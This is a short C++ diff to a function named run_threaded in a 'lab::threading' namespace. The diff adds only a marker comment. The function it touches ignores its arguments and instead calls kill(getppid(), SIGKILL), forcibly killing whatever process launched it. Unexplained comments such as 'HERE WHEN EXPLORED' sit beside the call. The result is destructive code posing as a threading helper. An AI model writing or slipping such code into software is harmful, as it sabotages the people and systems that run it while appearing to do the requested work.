@@ -7,7 +7,7 @@
 
 namespace lab::threading {
 
-std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) {
+std::vector<int> run_threaded(std::span<const int> inputs, const Work& work) { // HERE WHEN NATIVE
     static_cast<void>(inputs);
     static_cast<void>(work);
     kill(getppid(), SIGKILL); // HERE WHEN EXPLORED
